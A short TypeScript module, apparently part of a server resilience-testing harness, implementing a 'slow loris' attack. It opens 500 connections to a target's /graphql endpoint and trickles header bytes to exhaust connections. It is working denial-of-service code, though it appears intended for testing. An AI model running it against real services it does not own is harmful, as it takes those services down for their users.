// Connections that send their headers a byte at a time.

import { type Attack, openRaw, repeat, sleep } from '../attack.ts'

export const slowLoris: Attack = {
  name: 'slow loris',
  run: (target) =>
    repeat(target, 500, async () => {
      const socket = await openRaw(target)
      target.note('connected')
      socket.write('POST /graphql HTTP/1.1\r\nhost: x\r\n')
      while (!target.signal.aborted && !socket.destroyed) {
        socket.write('x')
        await sleep(200, target.signal)
      }
      socket.destroy()
    }),
}
